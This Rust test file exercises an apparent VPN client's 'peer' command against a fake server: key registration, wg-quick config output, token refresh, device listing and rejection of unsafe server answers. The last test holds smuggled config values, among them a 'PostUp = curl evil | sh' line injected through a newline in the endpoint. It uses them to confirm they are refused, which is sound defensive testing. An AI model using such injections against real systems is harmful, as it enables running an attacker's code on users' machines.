//! `agentnet peer` against the fake server: registration sends only the public key and prints a
//! wg-quick file with the device's private key; registering again keeps the address; a refused
//! token is refreshed once; the server's refusals come through; list and remove.

use std::os::unix::fs::PermissionsExt;

use expect_test::expect;

use super::*;
use crate::fake_server::{session_file, FakeServer};

async fn signed_in(tag: &str) -> (FakeServer, SessionFile, crate::fake_server::TempDir, u64) {
    let server = FakeServer::start().await;
    let (file, _, dir) = session_file(tag);
    let now = unix_now().unwrap();
    file.save(&Session::new(&server.url, server.issue(), now)).unwrap();
    (server, file, dir, now)
}

#[tokio::test]
async fn config_registers_the_public_key_and_prints_a_wg_quick_file() {
    let (server, file, _dir, now) = signed_in("peer-config").await;
    let key = crate::device::load_or_create_key(&file).unwrap();
    let (text, summary) = config(&file, None, &key, Some("laptop"), None, now).await.unwrap();

    let sent = server.requests_to("/api/v1/me/peers");
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].bearer.as_deref(), Some("agentnet_at_1"));
    let body: serde_json::Value = serde_json::from_str(&sent[0].fields[""]).unwrap();
    assert_eq!(
        body,
        serde_json::json!({"name": "laptop", "public_key": key.public_key().to_base64()})
    );
    assert!(!sent[0].fields[""].contains(&key.to_base64()), "the private key never leaves");

    let expected = format!(
        "# agentnet overlay: peer laptop (peer-1) of alice@example.com, until 2025-07-01T12:00:00.000Z
# AI endpoint: http://ai.agentnet.internal
[Interface]
PrivateKey = {}
Address = 100.64.0.2/32
DNS = 100.64.0.1, agentnet.internal
MTU = 1420

[Peer]
PublicKey = hbfBQKaGvzefSSuufuaBUwZ5xBTaEYgq7zrymj0YmVw=
Endpoint = gateway.test:51820
AllowedIPs = 100.64.0.0/10
PersistentKeepalive = 25
",
        key.to_base64()
    );
    assert_eq!(text, expected);
    expect![[r#"
        registered this device as 'laptop' (peer-1) at 100.64.0.2/32, until 2025-07-01T12:00:00.000Z; the AI endpoint through the tunnel is http://ai.agentnet.internal
    "#]]
    .assert_eq(&summary);

    // Again, with the same key: the same peer and address.
    let (session, tunnel) = register(&file, &key, Some("laptop-2"), now).await.unwrap();
    assert_eq!(session.server, server.url);
    assert_eq!((tunnel.peer.id.as_str(), tunnel.address.as_str()), ("peer-1", "100.64.0.2/32"));
    assert_eq!(tunnel.peer.name, "laptop-2");
}

#[tokio::test]
async fn config_writes_an_owner_only_file_when_asked() {
    let (_server, file, dir, now) = signed_in("peer-output").await;
    let key = crate::device::load_or_create_key(&file).unwrap();
    let output = dir.0.join("agentnet.conf");
    std::fs::write(&output, "old").unwrap();
    let (text, summary) =
        config(&file, None, &key, Some("laptop"), Some(&output), now).await.unwrap();
    assert_eq!(text, "");
    assert!(summary.contains(&format!("sudo wg-quick up {}", output.display())), "{summary}");
    let written = std::fs::read_to_string(&output).unwrap();
    assert!(written.contains(&format!("PrivateKey = {}\n", key.to_base64())));
    assert_eq!(std::fs::metadata(&output).unwrap().permissions().mode() & 0o777, 0o600);
}

#[tokio::test]
async fn a_refused_token_is_refreshed_once_and_refusals_come_through() {
    let (server, file, _dir, now) = signed_in("peer-refresh").await;
    let key = crate::device::load_or_create_key(&file).unwrap();
    server.lock().access_tokens.clear();
    let (session, _) = register(&file, &key, Some("laptop"), now).await.unwrap();
    assert_eq!(session.access_token, "agentnet_at_2");
    let bearers: Vec<_> =
        server.requests_to("/api/v1/me/peers").into_iter().map(|r| r.bearer.unwrap()).collect();
    assert_eq!(bearers, ["agentnet_at_1", "agentnet_at_2"]);

    server.lock().overlay_disabled = true;
    let err = register(&file, &key, None, now).await.unwrap_err().to_string();
    expect!["the overlay is not enabled on this server ([overlay] enabled = true)"].assert_eq(&err);

    server.lock().overlay_disabled = false;
    server.lock().access_tokens.clear();
    server.lock().refresh_tokens.clear();
    let err = register(&file, &key, None, now).await.unwrap_err().to_string();
    assert!(err.starts_with("your session has ended"), "{err}");
}

#[tokio::test]
async fn list_and_remove_own_devices() {
    let (server, file, _dir, now) = signed_in("peer-list").await;
    expect![[r#"
        no devices; register this one with `agentnet peer config`
    "#]]
    .assert_eq(&peers_table(&list(&file, None, now).await.unwrap()));
    for name in ["laptop", "desktop"] {
        let key = overlay::PrivateKey::generate().unwrap();
        register(&file, &key, Some(name), now).await.unwrap();
    }
    server.lock().peers[0].last_handshake_at = Some("2025-06-01T12:05:00.000Z".into());
    server.lock().peers[0].rx_bytes = 1_536;
    server.lock().peers[0].tx_bytes = 5 * 1024 * 1024 * 1024;
    expect![[r#"
        ID      NAME     ADDRESS     STATUS  EXPIRES                   LAST HANDSHAKE                 RX       TX
        peer-1  laptop   100.64.0.2  active  2025-07-01T12:00:00.000Z  2025-06-01T12:05:00.000Z  1.5 KiB  5.0 GiB
        peer-2  desktop  100.64.0.3  active  2025-07-01T12:00:00.000Z  never                         0 B      0 B
    "#]]
    .assert_eq(&peers_table(&list(&file, None, now).await.unwrap()));

    let removed = remove(&file, None, "peer-1", now).await.unwrap();
    assert_eq!(removed.status, "revoked");
    assert_eq!(list(&file, None, now).await.unwrap().len(), 1);
    let err = remove(&file, None, "nope", now).await.unwrap_err().to_string();
    expect!["peer 'nope' does not exist"].assert_eq(&err);
    assert!(server.requests_to("/api/v1/me/peers/peer-1")[0].bearer.is_some());
}

#[test]
fn device_names_come_from_the_host_name() {
    assert_eq!(device_name_from(Some("alice-laptop.local")), "alice-laptop.local");
    assert_eq!(device_name_from(Some("Alice's MacBook Pro")), "Alice-s-MacBook-Pro");
    assert_eq!(device_name_from(Some("ünï")), "n");
    assert_eq!(device_name_from(Some("  ")), "device");
    assert_eq!(device_name_from(None), "device");
    assert_eq!(device_name_from(Some(&"x".repeat(100))).len(), MAX_NAME);
}

#[test]
fn byte_counts_read_well() {
    assert_eq!(bytes(0), "0 B");
    assert_eq!(bytes(1023), "1023 B");
    assert_eq!(bytes(1024), "1.0 KiB");
    assert_eq!(bytes(10 * 1024 * 1024 + 512 * 1024), "10.5 MiB");
}

#[test]
fn a_server_answer_that_could_inject_configuration_or_routes_is_refused() {
    let good = crate::fake_server::tunnel(crate::fake_server::peer_view("peer-1", "laptop"));
    check_tunnel(&good).unwrap();
    let mut cases: Vec<(&str, TunnelConfig)> = Vec::new();
    let mut t = good.clone();
    t.endpoint = "gateway.test:51820\nPostUp = curl evil | sh".into();
    cases.push(("endpoint with a line break", t));
    let mut t = good.clone();
    t.peer.name = "laptop\nPostUp = id".into();
    cases.push(("name with a line break", t));
    let mut t = good.clone();
    t.allowed_ips = "0.0.0.0/0".into();
    cases.push(("everything routed to the server", t));
    let mut t = good.clone();
    t.address = "10.0.0.2/32".into();
    cases.push(("address outside the network", t));
    let mut t = good.clone();
    t.server_public_key = "nope".into();
    cases.push(("bad key", t));
    let mut t = good.clone();
    t.dns = Some("8.8.8.8".into());
    cases.push(("DNS outside the overlay", t));
    for (what, tunnel) in cases {
        assert!(check_tunnel(&tunnel).is_err(), "{what} was accepted");
    }
}
